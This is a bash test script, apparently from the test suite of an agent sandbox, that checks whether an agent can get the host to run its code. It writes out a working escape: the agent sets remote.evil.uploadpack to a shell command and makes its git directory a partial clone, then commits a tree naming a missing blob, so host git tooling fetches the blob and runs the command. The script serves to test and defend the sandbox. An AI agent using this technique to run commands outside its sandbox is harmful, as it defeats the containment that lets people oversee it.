#!/bin/bash
# 09 (phase 1, direct mode): the agent's private git directory lives on the
# host (the sandbox's state dir). If any host git command (review's
# capture, apply's fetch or scan) runs in it, its config is the agent's.
# The agent makes it a partial clone (extensions.partialClone = evil,
# remote.evil.promisor, remote.evil.uploadpack = a shell command writing a
# marker on the host) and commits a tree naming a blob that does not
# exist: git reading that tree fetches the "missing" object lazily by
# running the uploadpack command. Got through = the marker appears on the
# host. Either way, note what review says about .git/config.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
MK=/tmp/airlock-hist09-$N; rm -f "$MK"
ag "git config core.repositoryformatversion 1 && git config extensions.partialClone evil && git config remote.evil.url /tmp && git config remote.evil.promisor true && git config remote.evil.uploadpack 'sh -c \"id > $MK; exit 1\" #' &&
  TR=\$(printf '100644 blob 1234567890123456789012345678901234567890\tghost.txt\n100644 blob %s\tREADME\n' \$(echo hi | git hash-object -w --stdin) | git mktree --missing) && C=\$(git commit-tree -p HEAD -m ghost \$TR) && git reset -q --soft \$C && git log --oneline | head -2"
sleep 0.5; try promisor; echo "  .git/config: $(flags_of .git/config)"; cat "$T/review.err"; python3 -c "import json,sys; d=json.load(open(sys.argv[1])); print({k:v for k,v in d.items() if k not in (\"files\",\"provenance\")})" "$T/review.json"
for i in 1 2 3; do [ -e "$MK" ] && break; sleep 1; done
if [ -e "$MK" ]; then echo "  host ran the agent's command: $(cat "$MK")"; rm -f "$MK"; R=1; fi
finish
